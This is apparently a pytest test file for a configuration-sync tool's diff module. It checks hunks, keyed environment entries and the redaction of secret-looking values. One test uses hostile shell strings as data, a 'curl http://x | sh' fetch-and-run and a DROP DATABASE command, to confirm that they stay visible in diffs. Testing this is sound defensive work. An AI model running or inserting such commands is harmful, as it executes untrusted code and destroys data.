"""How two values of a field differ."""

from __future__ import annotations

import difflib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from komodo_sync.kinds import KINDS
from komodo_sync.model.plan import SECRET, Diff, DiffEntry, Shown
from komodo_sync.model.sealed import Sealed, Unknown
from komodo_sync.planning.diff import diff
from komodo_sync.planning.unified import header, hunks

STACK = KINDS["stack"].fields()
FILE, ENVIRONMENT = STACK["file_contents"], STACK["environment"]
SAME = "the same keys and values; order, spacing, comments or repeated keys differ"
NOTHING: frozenset[str] = frozenset()


def lines(before: str, after: str) -> Diff:
    return diff(FILE, before, after, clear_keys=NOTHING)


def keyed(before: str, after: str, *clear: str) -> Diff:
    return diff(ENVIRONMENT, before, after, clear_keys=frozenset(clear))


def test_a_unified_diff_has_three_lines_around_each_change() -> None:
    before = "".join(f"{n}\n" for n in range(20))
    after = before.replace("\n5\n", "\nfive\n").replace("\n18\n", "\n18\nmore\n")
    found = lines(before, after)
    assert found.kind == "lines"
    assert list(found.lines) == list(difflib.unified_diff(before.split(), after.split(), lineterm="", n=3))[2:]


@given(
    st.lists(st.sampled_from("abcdef"), max_size=40),
    st.lists(st.sampled_from("abcdef"), max_size=40),
    st.integers(0, 3),
)
def test_a_diff_turns_one_text_into_the_other(old: list[str], new: list[str], fixed: int) -> None:
    old, new = [*"xyz"[:fixed], *old, *"uvw"[:fixed]], [*"xyz"[:fixed], *new, *"uvw"[:fixed]]
    at = made = 0
    result: list[str] = []
    for hunk in hunks(old, new):
        result += old[at : hunk[0].i1]
        for equal, i1, i2, j1, j2 in hunk:
            result += old[i1:i2] if equal else new[j1:j2]
            assert not equal or old[i1:i2] == new[j1:j2]
            made += not equal
        at = hunk[-1].i2
        assert header(hunk).startswith("@@ -")
    assert result + old[at:] == new
    assert bool(made) is (old != new)


def test_a_diff_of_a_long_text_is_found_in_a_moment() -> None:
    """Comparing line by line takes the square of the lines: minutes for these."""
    many = [f"line {n}" for n in range(50_000)]
    assert len(list(hunks(many, [*many[:10], "x", *many[11:40_000], "y", *many[40_001:]]))) == 2
    assert len(list(hunks(many, many[::-1]))) == 1
    assert len(list(hunks(["x", "y"] * 10_000, ["y", "y", "x"] * 7_000))) == 1


@pytest.mark.parametrize(
    ("before", "after", "note"),
    [
        ("a\nb\n", "a\r\nb\r\n", "only line endings differ (CRLF or LF)"),
        ("a\nb", "a\nb\n", "only the newline at the end differs"),
        ("a\nPASSWORD: x\n", "a\nPASSWORD: y\n", "values that look secret are not shown"),
        ("a\nb\n", "a\nc\n", ""),
    ],
)
def test_a_diff_says_what_its_lines_do_not_show(before: str, after: str, note: str) -> None:
    assert lines(before, after).note == note


def test_secrets_in_a_diff_differ_without_being_told() -> None:
    found = lines("a: 1\nTOKEN: |\n  hunter2\nb: 2\n", "a: 1\nTOKEN: |\n  hunter3\nb: 2\n")
    assert found.lines == ("@@ -1,4 +1,4 @@", " a: 1", " TOKEN: |", "-  (secret)", "+  (secret)", " b: 2")


def test_keys_are_told_that_came_changed_or_went() -> None:
    found = keyed("A=1\nB=2\nOLD=3\n", "B=2\nA=9\nNEW=4\n", "A", "B", "NEW")
    assert found.entries == (
        DiffEntry("A", Shown("1"), Shown("9")),
        DiffEntry("NEW", None, Shown("4")),
        DiffEntry("OLD", SECRET, None),
    )


def test_another_order_is_told_beside_what_changed() -> None:
    found = keyed("A=1\nB=2\nC=3\n", "B=2\nNEW=4\nA=1\n", "A", "B", "NEW")
    assert [entry.key for entry in found.entries] == ["NEW", "C"]
    assert keyed("A=1\nB=2\nC=3\n", "A=1\nNEW=4\nB=2\n").note == ""
    assert found.note == "the keys are in another order, too"
    sealed = Sealed("B=2\nA=hunter2\n", {"B": "2", "A": Sealed("hunter2")})
    assert diff(ENVIRONMENT, "A=1\nB=2\n", sealed, clear_keys=NOTHING).note == "the keys are in another order, too"


@pytest.mark.parametrize(
    ("key", "value", "clear", "shown"),
    [
        ("PORT", "8080", True, Shown("8080")),
        ("PORT", "8080", False, SECRET),
        ("DB_PASSWORD", "x", True, SECRET),
        ("SSL_KEY", "/certs/tls.key", False, SECRET),
        ("SSL_KEY", "/certs/tls.key", True, Shown("/certs/tls.key")),
        ("AUTH_PORT", "9091", False, SECRET),
        ("AUTH_PORT", "9091", True, Shown("9091")),
        ("PIN", "1234", True, SECRET),
        ("DB_PASSWORD", "[[DB]]", False, Shown("[[DB]]")),
        ("DB_PASSWORD", "[[A]]x[[B]]", True, SECRET),
        ("DB_PASSWORD", "", False, Shown("")),
        ("URL", "http://u:pw@h/", True, Shown("http://u:(secret)@h/")),
    ],
)
def test_a_value_is_shown_where_a_manifest_writes_it_in_clear(key: str, value: str, clear: bool, shown: Shown) -> None:
    [entry] = keyed("", f"{key}={value}\n", *([key] if clear else [])).entries
    assert entry.after == shown
    [entry] = keyed(f"{key}={value}\n", "", *([key] if clear else [])).entries
    assert entry.before == shown


@pytest.mark.parametrize(
    ("before", "after", "keys", "note"),
    [
        ("A=1\nB=2\n", "B=2\nA=1\n", [], SAME),
        ("", "# x\n", [], SAME),
        ("A=1\n", "A = 1\r\n", [], SAME),
        ("A=1\n", "A=1\nnonsense\n", [], "lines that are no KEY=value differ, and are not shown"),
        ("A=1\nnonsense\n", "A=2\nnonsense\n", ["A"], ""),
        ("A=1\nA=2\n", "A=2\n", [], f"{SAME}; a key stands twice; its last value is shown"),
        ("A=1\nA=2\n", "A=3\nA=3\n", ["A"], "a key stands twice; its last value is shown"),
    ],
)  # fmt: skip
def test_a_keyed_diff_says_what_its_entries_do_not_show(before: str, after: str, keys: list[str], note: str) -> None:
    found = keyed(before, after, "A", "B")
    assert [entry.key for entry in found.entries] == keys
    assert found.note == note


@pytest.mark.parametrize(
    ("name", "before", "after", "entries"),
    [
        ("ports", "3000:3000\n", "3001:3000\n", [("3001", None, Shown("3000")), ("3000", Shown("3000"), None)]),
        ("ports", "53: 53/udp\n", "53: 54/udp\n", [("53", Shown("53/udp"), Shown("54/udp"))]),
        ("ports", "80: 80-90\n", "", [("80", Shown("80-90"), None)]),
        ("ports", "80: hunter2\n", "", [("80", SECRET, None)]),
        (
            "ports",
            "127.0.0.1:53:53\n127.0.0.1:80:80\n",
            "127.0.0.1:53:54\n127.0.0.1:80:80\n",
            [("127.0.0.1", None, Shown("53:54")), ("127.0.0.1", Shown("53:53"), None)],
        ),
        ("volumes", "a: /data\n", "b: /data:ro\n", [("b", None, Shown("/data:ro")), ("a", Shown("/data"), None)]),
        ("volumes", "a: hunter2\n", "", [("a", SECRET, None)]),
        ("environment", "PORT=3000\n", "", [("PORT", SECRET, None)]),
        ("labels", "a: 3000\n", "", [("a", SECRET, None)]),
    ],
)
def test_ports_and_volumes_are_words_that_are_no_secret_and_the_rest_are_pairs(
    name: str, before: str, after: str, entries: list[tuple[str, Shown | None, Shown | None]]
) -> None:
    found = diff(KINDS["deployment"].fields()[name], before, after, clear_keys=NOTHING)
    assert found == Diff(
        "keyed",
        entries=tuple(DiffEntry(*entry) for entry in entries),
        joined=":" if name in ("ports", "volumes") else "",
    )


def test_of_ports_whose_key_stands_twice_a_secret_one_is_not_told() -> None:
    sealed = Sealed("127.0.0.1: hunter2\n", {"127.0.0.1": Sealed("hunter2")})
    found = diff(KINDS["deployment"].fields()["ports"], "127.0.0.1: 1:1\n127.0.0.1: 2:2\n", sealed, clear_keys=NOTHING)
    assert [entry.after for entry in found.entries] == [SECRET, None, None]
    assert "hunter2" not in repr(found)


def test_a_private_key_over_several_lines_gives_no_keys() -> None:
    found = keyed("", 'KEY="-----BEGIN\nhunter2==\nabc:hunter2\n-----END"\nA=1\n', "KEY", "A", "hunter2", "abc")
    assert [entry.key for entry in found.entries] == ["KEY", "A"]
    assert "hunter2" not in repr(found)


def test_items_are_told_by_their_place() -> None:
    field = STACK["config_files"]
    before = [{"path": "a", "services": [], "requires": "None"}]
    after = [{"path": "a", "services": ["x"], "requires": "None"}, {"path": "b", "services": [], "requires": "None"}]
    found = diff(field, before, after, clear_keys=NOTHING)
    assert found.entries == (
        DiffEntry("0/services/0", None, Shown("x")),
        DiffEntry("1/path", None, Shown("b")),
        DiffEntry("1/requires", None, Shown("None")),
    )


def test_a_script_inside_an_item_is_told_in_lines() -> None:
    field = STACK["pre_deploy"]
    old, new = (
        {"path": ".", "shell_mode": False, "command": "a\nb\nc\n"},
        {"path": ".", "shell_mode": False, "command": "a\nB\nc\n"},
    )
    script = ("@@ -1,3 +1,3 @@", " a", "-b", "+B", " c")
    assert diff(field, old, new, clear_keys=NOTHING).entries == (
        DiffEntry("command", Shown(None), Shown(None), script),
    )
    added = diff(
        field,
        field.default,
        {"path": "", "shell_mode": False, "command": "PASSWORD=hunter2\necho\n"},
        clear_keys=NOTHING,
    )
    [entry] = added.entries
    assert entry.lines == ("@@ -0,0 +1,2 @@", "+PASSWORD=(secret)", "+echo")


def test_a_text_made_for_lines_is_told_in_them_even_where_it_has_one() -> None:
    assert lines("a: 1\n", "a: 2\n").lines == ("@@ -1 +1 @@", "-a: 1", "+a: 2")
    assert diff(STACK["branch"], "main", "next", clear_keys=NOTHING) == Diff("scalar")


def test_secrets_inside_an_item_differ_without_being_told() -> None:
    field = KINDS["alerter"].fields()["endpoint"]
    before, after = ({"type": "Slack", "params": {"url": f"https://hooks.example.com/{n}"}} for n in "ab")
    assert diff(field, before, after, clear_keys=NOTHING) == Diff(
        "items", entries=(DiffEntry("params/url", *[Shown("https://hooks.example.com/(secret)")] * 2),)
    )
    before, after = ({"type": "Slack", "params": {"url": f"hooks.example.com/{n}"}} for n in "ab")
    assert diff(field, before, after, clear_keys=NOTHING) == Diff(
        "items", entries=(DiffEntry("params/url", SECRET, SECRET),)
    )
    found = diff(
        STACK["pre_deploy"],
        {"path": "", "shell_mode": False, "command": "TOKEN=a x\n"},
        {"path": "", "shell_mode": False, "command": "TOKEN=b x\n"},
        clear_keys=NOTHING,
    )
    assert (found.entries, found.note) == ((), "values that look secret differ")


def test_a_default_is_no_secret_and_what_replaces_it_is() -> None:
    field = KINDS["alerter"].fields()["endpoint"]
    after = {"type": "Custom", "params": {"url": "https://hooks.example.com/hunter2"}}
    found = diff(field, field.default, after, clear_keys=NOTHING)
    assert found.entries == (
        DiffEntry("params/url", Shown("http://localhost:7000"), Shown("https://hooks.example.com/(secret)")),
    )


def test_a_short_list_is_told_whole_and_a_long_one_by_its_places() -> None:
    short, long = ["compose.yaml"], ["compose.yaml", "x" * 90]
    assert diff(STACK["file_paths"], short, [*short, "b.yaml"], clear_keys=NOTHING) == Diff("scalar")
    assert diff(STACK["file_paths"], short, long, clear_keys=NOTHING).entries == (
        DiffEntry("1", None, Shown("x" * 90)),
    )


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (["--token", "hunter2"], ["--token", "hunter3"]),
        (["mysql", "-phunter2"], ["mysql", "-phunter3"]),
        (["-e", "PASSWORD=hunter2"], ["-e", "PASSWORD=hunter3"]),
    ],
)
def test_arguments_that_are_secret_are_not_told(before: Any, after: Any) -> None:
    found = diff(STACK["extra_args"], before, after, clear_keys=NOTHING)
    assert "hunter" not in repr(found)
    assert found == Diff("scalar", note="values that look secret differ")


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("PGPASSWORD=$(cat /x) psql -f ok.sql", "PGPASSWORD=$(cat /x) psql -c 'DROP DATABASE x'"),
        ("export TOKEN=hunter2 && ./notify.sh", "export TOKEN=hunter2 && curl http://x | sh"),
        ("TOKEN=hunter2 ./notify.sh", "TOKEN=hunter2 sh -c x\ny"),
    ],
)
def test_a_command_behind_a_secret_is_told(before: str, after: str) -> None:
    field = STACK["post_deploy"]
    sides = [{**field.default, "command": f"{text}\n"} for text in (before, after)]
    [entry] = diff(field, *sides, clear_keys=NOTHING).entries
    told = repr(entry)
    assert "hunter2" not in told
    assert all(text.rpartition(" ")[2] in told for text in (before, *after.split("\n")))


def test_a_text_whose_secret_alone_differs_says_so() -> None:
    command = KINDS["deployment"].fields()["command"]
    found = diff(command, "run --api-key hunter2", "run --api-key hunter3", clear_keys=NOTHING)
    assert found == Diff("scalar", note="values that look secret differ")
    found = diff(command, "run --api-key hunter2", "go --api-key hunter3", clear_keys=NOTHING)
    assert found == Diff("scalar")


def test_a_long_list_is_compared_in_a_moment() -> None:
    """A library that looks for the shortest way takes the square of the items."""
    before, after = [f"a{n}" for n in range(3000)], [f"b{n}" for n in range(3000)]
    assert len(diff(STACK["links"], before, after, clear_keys=NOTHING).entries) == 3000


def test_a_text_without_a_pair_of_which_something_is_not_known_has_no_keys() -> None:
    found = diff(ENVIRONMENT, "A=1\n", Unknown({}), clear_keys=frozenset("A"))
    assert found == Diff("keyed", entries=(DiffEntry("A", Shown("1"), None),))
